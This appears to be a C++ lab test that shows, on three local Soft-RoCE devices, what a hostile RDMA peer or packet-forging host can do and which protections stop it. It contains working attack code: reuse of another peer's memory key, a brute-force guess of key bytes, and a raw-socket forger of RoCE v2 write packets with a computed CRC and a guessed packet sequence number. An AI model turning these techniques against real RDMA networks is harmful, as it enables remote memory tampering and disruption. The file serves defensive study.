// lab_enemies: what an enemy on the RDMA network can do to Linux's Soft-RoCE, and what stops him
// (docs/security.md). Three devices in one guest: rxe0 belongs to the victim, rxe1 to its honest peer, rxe2
// to the enemy, first as a bad peer with a queue pair of his own, then as a host that forges packets. Prints
// a line for each fact and ends with 1 at the first that does not hold.
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <concepts>
#include <cstddef>
#include <fstream>
#include <span>
#include <string>
#include <vector>

#include "lab/programs/rdma_ends.h"

namespace railwise::lab {
namespace {

constexpr std::size_t kPage = 4096;
constexpr uint32_t kPsn = 0x5a17ed;
constexpr uint64_t kTrue = 1;
constexpr uint64_t kFalse = 666;

void say(const char* text) {
  std::printf("ok: %s\n", text);
  std::fflush(stdout);
}

// An end of somebody else's, with memory of its own to write from and read into.
struct Peer {
  Peer(const Nic& nic)
      : pd(nic.newDomain()), memory(kPage), mr(memory.registerWith(pd.get())), end(nic, pd.get()) {}

  ibv_wc_status operate(ibv_wr_opcode opcode, uint64_t address, uint32_t key) {
    ibv_sge sge = {memory.at(0), sizeof(uint64_t), mr->lkey};
    ibv_send_wr work = {};
    work.sg_list = &sge;
    work.num_sge = 1;
    work.opcode = opcode;
    work.send_flags = IBV_SEND_SIGNALED;
    work.wr.rdma = {address, key};
    end.post(work);
    return end.complete();
  }
  ibv_wc_status write(uint64_t value, uint64_t address, uint32_t key) {
    memory.word() = value;
    return operate(IBV_WR_RDMA_WRITE, address, key);
  }

  verbs::Pd pd;
  Pages memory;
  verbs::Mr mr;
  End end;
};

// A peer that is connected with the victim.
struct Connected {
  Connected(const Nic& victim, ibv_pd* pd, const Nic& nic, verbs::PeerMay may = verbs::PeerMay::kReadAndWrite)
      : here(victim, pd, may), peer(nic) {
    joinBoth(here, peer.end, kPsn);
  }
  End here;
  Peer peer;
};

// ---- a bad peer

void badPeer(const Nic& victim, const Nic& honest, const Nic& bad) {
  const verbs::Pd pd = victim.newDomain();
  const Pages memory(kPage);
  const verbs::Mr mr = memory.registerWith(pd.get());
  Connected friendly(victim, pd.get(), honest);
  need(friendly.peer.write(kTrue, memory.at(0), mr->rkey) == IBV_WC_SUCCESS, "the honest peer writes");
  {
    Connected enemy(victim, pd.get(), bad);
    need(enemy.peer.write(kFalse, memory.at(0), mr->rkey) == IBV_WC_SUCCESS && memory.word() == kFalse,
         "one protection domain: the bad peer writes memory that was registered for another peer");
    say("one protection domain: a bad peer with another peer's key writes that peer's memory");
    need(enemy.peer.operate(IBV_WR_RDMA_READ, memory.at(0), mr->rkey) == IBV_WC_SUCCESS, "and reads it");
  }
  {
    Connected enemy(victim, pd.get(), bad, verbs::PeerMay::kWrite);
    need(enemy.peer.operate(IBV_WR_RDMA_READ, memory.at(0), mr->rkey) == IBV_WC_REM_INV_REQ_ERR,
         "a queue pair without remote read refuses to be read through");
    say("a queue pair without remote read: the bad peer reads nothing, whatever key he has");
  }
  memory.word() = kTrue;
  const verbs::Pd other = victim.newDomain();
  Connected enemy(victim, other.get(), bad);
  need(enemy.peer.write(kFalse, memory.at(0), mr->rkey) == IBV_WC_REM_ACCESS_ERR && memory.word() == kTrue,
       "a domain for each peer: the key is refused");
  say("a protection domain for each peer: the same key is refused");
}

// He knows the number of the registration (they count up), not the last byte of the key.
void guessedKey(const Nic& victim, const Nic& bad) {
  const verbs::Pd pd = victim.newDomain();
  const Pages memory(kPage);
  const verbs::Mr before = memory.registerWith(pd.get());
  const verbs::Mr mr = memory.registerWith(pd.get());
  const uint32_t number = (before->rkey >> 8) + 1;
  need(mr->rkey >> 8 == number, "the numbers of registrations count up");
  uint32_t tries = 0;
  for (bool written = false; !written; ++tries) {
    need(tries < 256, "256 keys are all");
    Connected enemy(victim, pd.get(), bad);
    written = enemy.peer.write(kFalse, memory.at(0), number << 8 | tries) == IBV_WC_SUCCESS;
  }
  std::printf("ok: a key that was never told is guessed with %u queue pairs (of 256 at most)\n", tries);
}

void window(const Nic& victim, const Nic& honest, const Nic& bad) {
  const verbs::Pd pd = victim.newDomain();
  const Pages memory(kPage);
  const verbs::Mr mr = memory.registerWith(pd.get(), IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_MW_BIND);
  Connected friendly(victim, pd.get(), honest);
  Connected enemy(victim, pd.get(), bad);
  ibv_mw* const mw = ibv_alloc_mw(pd.get(), IBV_MW_TYPE_2);
  need(mw != nullptr, "ibv_alloc_mw");
  ibv_send_wr bind = {};
  bind.opcode = IBV_WR_BIND_MW;
  bind.send_flags = IBV_SEND_SIGNALED;
  bind.bind_mw = {mw, ibv_inc_rkey(mw->rkey), {mr.get(), memory.at(0), kPage, IBV_ACCESS_REMOTE_WRITE}};
  const uint32_t key = bind.bind_mw.rkey;
  friendly.here.post(bind);
  need(friendly.here.complete() == IBV_WC_SUCCESS, "bind");
  need(friendly.peer.write(kTrue, memory.at(0), key) == IBV_WC_SUCCESS && memory.word() == kTrue,
       "the honest peer writes through the window");
  need(enemy.peer.write(kFalse, memory.at(0), key) == IBV_WC_REM_ACCESS_ERR && memory.word() == kTrue,
       "a memory window belongs to one queue pair");
  ibv_send_wr invalidate = {};
  invalidate.opcode = IBV_WR_LOCAL_INV;
  invalidate.send_flags = IBV_SEND_SIGNALED;
  invalidate.invalidate_rkey = key;
  friendly.here.post(invalidate);
  need(friendly.here.complete() == IBV_WC_SUCCESS, "invalidate");
  need(friendly.peer.write(kFalse, memory.at(0), key) == IBV_WC_REM_ACCESS_ERR && memory.word() == kTrue,
       "after the invalidation nobody writes");
  ibv_dealloc_mw(mw);
  say("a memory window of type 2: only its queue pair writes, and nobody after its invalidation");
}

// ---- a host that forges packets

std::array<uint8_t, ETH_ALEN> macOf(const std::string& netdev) {
  std::ifstream file("/sys/class/net/" + netdev + "/address");
  std::string text;
  file >> text;
  std::array<uint8_t, ETH_ALEN> mac = {};
  need(std::sscanf(text.c_str(), "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
                   &mac[5]) == ETH_ALEN,
       "a MAC address");
  return mac;
}

class Bytes {
 public:
  template <std::unsigned_integral T>
  Bytes& add(T value) {  // in network order
    for (int shift = static_cast<int>(sizeof value) * 8 - 8; shift >= 0; shift -= 8)
      bytes_.push_back(static_cast<uint8_t>(value >> shift));
    return *this;
  }
  Bytes& add(std::span<const uint8_t> bytes) {
    bytes_.insert(bytes_.end(), bytes.begin(), bytes.end());
    return *this;
  }
  std::vector<uint8_t>& all() { return bytes_; }

 private:
  std::vector<uint8_t> bytes_;
};

uint32_t crc32(std::span<const uint8_t> bytes) {
  uint32_t crc = ~0U;
  for (const uint8_t byte : bytes) {
    crc ^= byte;
    for (int bit = 0; bit < 8; ++bit) crc = crc >> 1 ^ ((crc & 1) != 0 ? 0xedb88320 : 0);
  }
  return ~crc;
}

// The sum over a packet has no secret. It leaves out what routers change (InfiniBand specification, annex
// A17.3.3).
uint32_t invariantCrc(std::span<const uint8_t> packet) {
  std::vector<uint8_t> covered(8, 0xff);
  covered.insert(covered.end(), packet.begin(), packet.end());
  for (const std::size_t masked : {1, 8, 10, 11, 26, 27, 32}) covered[8 + masked] = 0xff;
  return crc32(covered);
}

// Ethernet frames that claim to be the honest peer's, sent by the network device of another host.
class Forger {
 public:
  Forger(const std::string& netdev, const Nic& victim, const Nic& claimed)
      : socket_(::socket(AF_PACKET, SOCK_RAW, 0)), victim_(victim), claimed_(claimed), from_(macOf(netdev)) {
    need(socket_ >= 0, "a raw socket");
    at_.sll_family = AF_PACKET;
    at_.sll_ifindex = static_cast<int>(if_nametoindex(netdev.c_str()));
  }
  ~Forger() { close(socket_); }
  Forger(const Forger&) = delete;
  Forger& operator=(const Forger&) = delete;

  // An RDMA write of 8 bytes in one packet.
  void write(uint32_t queue_pair, uint32_t psn, uint64_t address, uint32_t key, uint64_t value) const {
    std::array<uint8_t, sizeof value> data;
    std::memcpy(data.data(), &value, sizeof value);
    Bytes packet;
    packet.add(uint16_t{0x4500})
        .add(uint16_t{kPacket})
        .add(uint32_t{0x4000})
        .add(uint16_t{0x4011})
        .add(uint16_t{0});
    packet.add(ipv4(claimed_)).add(ipv4(victim_));
    packet.add(uint16_t{0xc000}).add(uint16_t{4791}).add(uint16_t{kPacket - 20}).add(uint16_t{0});
    packet.add(uint16_t{0x0a00}).add(uint16_t{0xffff}).add(queue_pair).add(psn);
    packet.add(address).add(key).add(uint32_t{sizeof value}).add(data);
    setHeaderSum(packet.all());
    const uint32_t crc = invariantCrc(packet.all());
    for (int shift = 0; shift < 32; shift += 8) packet.add(static_cast<uint8_t>(crc >> shift));
    Bytes frame;
    frame.add(macOf("net0")).add(from_).add(uint16_t{ETHERTYPE_IP}).add(packet.all());
    const auto sent = sendto(socket_, frame.all().data(), frame.all().size(), 0,
                             reinterpret_cast<const sockaddr*>(&at_), sizeof at_);
    need(sent == static_cast<ssize_t>(frame.all().size()), "a forged frame is sent");
  }

 private:
  static constexpr uint16_t kPacket = 20 + 8 + 12 + 16 + 8 + 4;  // IP, UDP, BTH, RETH, data, sum

  static std::span<const uint8_t> ipv4(const Nic& nic) {
    need(verbs::isIpv4(nic.gid.value), "RoCE v2 over IPv4");
    return std::span(nic.gid.value.raw).last(4);
  }
  static void setHeaderSum(std::vector<uint8_t>& packet) {
    uint32_t sum = 0;
    for (std::size_t i = 0; i < 20; i += 2) sum += static_cast<uint32_t>(packet[i] << 8 | packet[i + 1]);
    sum = (sum & 0xffff) + (sum >> 16);
    sum = ~(sum + (sum >> 16));
    packet[10] = static_cast<uint8_t>(sum >> 8);
    packet[11] = static_cast<uint8_t>(sum);
  }

  int socket_;
  const Nic& victim_;
  const Nic& claimed_;
  std::array<uint8_t, ETH_ALEN> from_;
  sockaddr_ll at_ = {};
};

bool becomes(const Pages& memory, uint64_t value) {
  const Deadline deadline = Deadline::after(std::chrono::seconds(20));
  while (memory.word() != value && !deadline.passed()) usleep(1000);
  return memory.word() == value;
}

ibv_qp_state stateOf(const End& end) {
  ibv_qp_attr attributes = {};
  ibv_qp_init_attr init = {};
  need(verbs::library().query_qp(end.qp(), &attributes, IBV_QP_STATE, &init) == 0, "ibv_query_qp");
  return attributes.qp_state;
}

void forger(const Nic& victim, const Nic& honest, const std::string& netdev) {
  const verbs::Pd pd = victim.newDomain();
  const Pages memory(kPage);
  const verbs::Mr mr = memory.registerWith(pd.get());
  Connected friendly(victim, pd.get(), honest);
  Connected next(victim, pd.get(), honest);
  need(next.here.number() - friendly.here.number() < 8, "the numbers of queue pairs count up");
  say("numbers of queue pairs count up: they are no secret");
  need(friendly.peer.write(kTrue, memory.at(0), mr->rkey) == IBV_WC_SUCCESS, "the honest peer writes");
  const Forger forger(netdev, victim, honest);
  // Packets of the past are acknowledged and dropped, and those of the future refused, so he may try one
  // number after the other.
  constexpr uint32_t kTried = 500;
  for (uint32_t psn = kPsn + 1 - kTried; psn != kPsn + 1; ++psn)
    forger.write(friendly.here.number(), psn, memory.at(0), mr->rkey, kFalse);
  forger.write(friendly.here.number(), kPsn + kTried, memory.at(0), mr->rkey, kFalse);
  usleep(200'000);
  need(memory.word() == kTrue, "a packet of the past or the future does not write");
  forger.write(friendly.here.number(), kPsn + 1, memory.at(0), mr->rkey, kFalse);
  need(becomes(memory, kFalse), "a forged packet writes");
  say("a forged packet with the next packet number writes; 501 wrong ones before it did no harm");
  need(friendly.peer.write(kTrue, memory.at(0), mr->rkey) == IBV_WC_SUCCESS && memory.word() == kFalse,
       "the true packet with that number is acknowledged and dropped");
  say("the honest peer's next write is acknowledged to him, and lost");
  forger.write(next.here.number(), kPsn, memory.at(0), mr->rkey ^ 1, kFalse);
  const Deadline deadline = Deadline::after(std::chrono::seconds(20));
  while (stateOf(next.here) != IBV_QPS_ERR && !deadline.passed()) usleep(1000);
  need(stateOf(next.here) == IBV_QPS_ERR, "a forged packet with a wrong key ends the queue pair");
  say("a forged packet with a wrong key ends the queue pair");
}

int run() {
  Config config = Config::load();
  need(verbs::load(config).ok(), "libibverbs");
  const Nic victim("rxe0", config);
  const Nic honest("rxe1", config);
  const Nic bad("rxe2", config);
  badPeer(victim, honest, bad);
  guessedKey(victim, bad);
  window(victim, honest, bad);
  forger(victim, honest, "net2");
  return 0;
}

}  // namespace
}  // namespace railwise::lab

int main() { return railwise::lab::run(); }
